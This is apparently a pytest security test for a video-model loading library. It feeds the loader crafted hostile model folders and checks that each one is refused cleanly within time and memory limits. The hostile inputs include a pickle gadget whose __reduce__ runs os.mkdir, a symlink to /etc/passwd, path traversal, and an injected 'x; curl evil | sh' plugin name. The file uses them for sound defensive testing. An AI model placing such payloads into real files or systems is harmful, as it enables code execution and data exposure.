"""A folder that somebody prepared against its reader: refused with a clear error, in bounded time and memory."""

from __future__ import annotations

import json
import os
import pickle
import re
import struct
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import torch

from actrec_zoo.hub.packing import write_package
from actrec_zoo.loading import create
from actrec_zoo.registry import get_registry
from tests.distributions import run_python

SECONDS = 10
MEBIBYTES = 64
"""What an attack may cost beyond what the process has once torch is there."""

_VICTIM = f"""
import json, os, resource, signal, sys, time
import torch
torch.set_num_threads(1)
import actrec_zoo, actrec_zoo.loading, actrec_zoo_plugins.r3d.model, actrec_zoo_plugins.tiny.model
import actrec_zoo_plugins.videomae.model

def status(key):
    return next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith(key)) * 1024

def attacked(folder):
    open("/proc/self/clear_refs", "w").write("5")  # the peak of memory begins anew
    before, began = status("VmRSS"), time.monotonic()
    signal.alarm({SECONDS})
    try:
        actrec_zoo.load(folder)
        error = ""
    except actrec_zoo.ActrecZooError as caught:
        error = f"{{type(caught).__name__}}: {{caught}}"
    except BaseException as caught:
        error = f"UNEXPECTED {{caught!r}}"
    signal.alarm(0)
    return {{"error": error, "seconds": time.monotonic() - began, "bytes": status("VmHWM") - before}}

def late(number, frame):
    raise TimeoutError
signal.signal(signal.SIGALRM, late)
actrec_zoo.load(sys.argv[1] + "/harmless")
limit = status("VmSize") + {2**30}  # of addresses, most of which are never written to
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
print(json.dumps({{name: attacked(os.path.join(sys.argv[1], name)) for name in sorted(os.listdir(sys.argv[1]))}}))
"""


class Bomb:
    """Unpickled, it leaves a file."""

    def __init__(self, place: Path) -> None:
        self.place = str(place)

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.place,)


def change_config(**changes: object) -> Callable[[Path], None]:
    def attack(folder: Path) -> None:
        file = folder / "config.json"
        file.write_text(json.dumps(json.loads(file.read_text()) | changes))

    return attack


def write_config_text(text: str) -> Callable[[Path], None]:
    return lambda folder: void((folder / "config.json").write_text(text))


def change_header(change: Callable[[dict[str, Any]], None]) -> Callable[[Path], None]:
    """Lie in the header of the weights, and keep their bytes."""

    def attack(folder: Path) -> None:
        file = folder / "model.safetensors"
        content = file.read_bytes()
        (length,) = struct.unpack("<Q", content[:8])
        header = json.loads(content[8 : 8 + length])
        change(header)
        text = json.dumps(header).encode()
        file.write_bytes(struct.pack("<Q", len(text)) + text + content[8 + length :])

    return attack


def write_weights_bytes(content: bytes) -> Callable[[Path], None]:
    return lambda folder: void((folder / "model.safetensors").write_bytes(content))


def link_weights(target: str) -> Callable[[Path], None]:
    def attack(folder: Path) -> None:
        (folder / "model.safetensors").unlink()
        (folder / "model.safetensors").symlink_to(target)

    return attack


def torch_archive(folder: Path) -> None:
    torch.save({"weight": Bomb(folder.parent / "EXPLODED")}, folder / "model.safetensors")


def plain_pickle(folder: Path) -> None:
    (folder / "model.safetensors").write_bytes(pickle.dumps(Bomb(folder.parent / "EXPLODED")))


def void(_: object) -> None:
    """Nothing is returned."""


BIAS = "head.classifier.bias"


def overlap(header: dict[str, Any]) -> None:
    other = next(e for n, e in header.items() if n not in (BIAS, "__metadata__") and e["data_offsets"][0] == 0)
    header[BIAS]["data_offsets"] = [0, header[BIAS]["data_offsets"][1] - header[BIAS]["data_offsets"][0]]
    assert other


def many_tensors(count: int) -> bytes:
    text = json.dumps({f"t{n}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for n in range(count)}).encode()
    return struct.pack("<Q", len(text)) + text


ATTENTION = {"model": "r3d:r3d_attn8", "input": {"frames": 8, "size": 112}}
VIDEOMAE = {"model": "videomae:videomae_small"}
UNSAFE = "WeightsError: .*model.safetensors is not a readable safetensors file"


class Attack(NamedTuple):
    """What is done to a folder, and what is said to it."""

    prepare: Callable[[Path], None]
    answer: str


ATTACKS = {
    "torch-archive": Attack(torch_archive, f"{UNSAFE}, but a zip archive, as torch.save writes it: it may hold code"),
    "pickle": Attack(plain_pickle, f"{UNSAFE}, but a pickle: it may hold code and is not opened"),
    "web-page": Attack(write_weights_bytes(b"<!DOCTYPE html><html>no</html>"), f"{UNSAFE}, but a web page"),
    "lfs-pointer": Attack(write_weights_bytes(b"version https://git-lfs.github.com/spec/v1\n"), "a pointer of Git LFS"),
    "empty": Attack(write_weights_bytes(b""), UNSAFE),
    "header-overflow": Attack(write_weights_bytes(b"\xff" * 8 + b"{}"), "a header of 18446744073709551615 bytes"),
    "header-too-long": Attack(write_weights_bytes(struct.pack("<Q", 2**21) + b"{}"), UNSAFE),
    "header-of-spaces": Attack(write_weights_bytes(struct.pack("<Q", 2**22) + b"{" + b" " * (2**22 - 1)), UNSAFE),
    "header-deep": Attack(write_weights_bytes(struct.pack("<Q", 2**20) + b'{"a":' * 2**18), UNSAFE),
    "many-tensors": Attack(write_weights_bytes(many_tensors(30_000)), "has 30000 tensors, 20000 are allowed"),
    "overlap": Attack(change_header(overlap), UNSAFE),
    "type": Attack(
        change_header(lambda h: h[BIAS].update(dtype="I32")), "1 of another type: head.classifier.bias torch.int32"
    ),
    "type-of-other-size": Attack(change_header(lambda h: h[BIAS].update(dtype="F64")), UNSAFE),
    "unknown-type": Attack(change_header(lambda h: h[BIAS].update(dtype="OBJECT")), UNSAFE),
    "shape": Attack(change_header(lambda h: h[BIAS].update(shape=[1, 2])), r"of another shape: .* \(1, 2\) instead of"),
    "shape-of-other-size": Attack(change_header(lambda h: h[BIAS].update(shape=[7])), UNSAFE),
    "negative-shape": Attack(change_header(lambda h: h[BIAS].update(shape=[-2])), UNSAFE),
    "huge-tensor": Attack(
        change_header(lambda h: h[BIAS].update(shape=[10**15], data_offsets=[0, 4 * 10**15])), UNSAFE
    ),
    "overflowing-shape": Attack(change_header(lambda h: h[BIAS].update(shape=[2**62, 2**62])), UNSAFE),
    "extra-key": Attack(
        change_header(lambda h: h.update(evil={"dtype": "F32", "shape": [0], "data_offsets": [0, 0]})),
        "1 unexpected: evil",
    ),
    "terminal": Attack(
        change_header(lambda h: h.update({"\x1b[2J": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}})),
        r"a tensor with an impossible name: '\\x1b\[2J'",
    ),
    "device": Attack(link_weights("/dev/zero"), "has no model.safetensors"),
    "other-file": Attack(link_weights("/etc/passwd"), UNSAFE),
    "loop": Attack(link_weights("model.safetensors"), "has no model.safetensors"),
    "config-types": Attack(change_config(options=["a"]), "config.json: options: Input should be a valid dictionary"),
    "config-input": Attack(change_config(input={"frames": "8", "size": 32}), "config.json: input frames must be"),
    "config-nan": Attack(write_config_text('{"format": NaN}'), "NaN is no JSON number"),
    "config-deep": Attack(write_config_text('{"format":' * 100_000), "more than 32 deep"),
    "config-big": Attack(write_config_text('"' + "x" * 2**25 + '"'), "has more than 16777216 bytes"),
    "config-digits": Attack(write_config_text('{"format": 1' + "0" * 10**6 + "}"), "is not valid JSON"),
    "huge-label": Attack(change_config(labels=["a" * 2**20, "b"]), r"labels\[0\] has 1048576 characters"),
    "unknown-option": Attack(change_config(options={"import": "os"}), "has no option 'import'"),
    "many-layers": Attack(change_config(**ATTENTION, options={"layers": 10**9}), "layers: 1000000000 is too large"),
    "layers": Attack(
        change_config(**ATTENTION, options={"layers": 2**20}),
        r"model\.safetensors: the options ask for a network that is much larger",
    ),
    "blocks": Attack(
        change_config(**VIDEOMAE, options={"layers": 2**20}),
        r"model\.safetensors: the options ask for a network that is much larger",
    ),
    "width": Attack(change_config(options={"width": 2**20}), "cannot be built with|a network that is much larger"),
    "clip": Attack(change_config(input={"frames": 10**6, "size": 10**6}), "1000000 frames of 1000000x1000000 are too"),
    "path-as-model": Attack(change_config(model="tiny:../../evil"), "model: must be plugin:name"),
    "other-plugin": Attack(
        change_config(model="evil:net", plugin={"distribution": "evil-zoo", "version": "1"}), "`pip install evil-zoo`"
    ),
    "command-as-plugin": Attack(
        change_config(model="evil:net", plugin={"distribution": "x; curl evil | sh", "version": "1"}),
        "plugin: must be the name of a distribution",
    ),
}


@pytest.fixture(scope="module")
def answers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, dict[str, Any]]]:
    """What one process answers to every attack in turn."""
    place = tmp_path_factory.mktemp("hostile") / "folders"
    found = get_registry().find("tiny_conv3d")
    model = create(found, labels=["left", "right"], input=found.spec.input.with_size(32), options={"width": 4})
    for name in ("harmless", *ATTACKS):
        write_package(place / name, model, {"distribution": "actrec-zoo", "version": "1"})
        if name in ATTACKS:
            ATTACKS[name].prepare(place / name)
    before = {path: path.lstat().st_mtime_ns for path in place.rglob("*")}
    done = run_python("-c", _VICTIM, str(place), HF_HUB_OFFLINE="1")
    assert done.code == 0, done.err
    assert {path: path.lstat().st_mtime_ns for path in place.rglob("*")} == before
    yield json.loads(done.out)


def test_harmless_folder_loads(answers: dict[str, dict[str, Any]]) -> None:
    assert answers["harmless"]["error"] == ""


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_is_refused(answers: dict[str, dict[str, Any]], name: str) -> None:
    error = answers[name]["error"]
    assert re.search(ATTACKS[name].answer, error), error
    assert len(error) < 2000
    assert "root:" not in error
    assert error.isprintable()


def test_attacks_are_bounded(answers: dict[str, dict[str, Any]]) -> None:
    assert max(answer["seconds"] for answer in answers.values()) < SECONDS
    assert max(answer["bytes"] for answer in answers.values()) < MEBIBYTES * 2**20
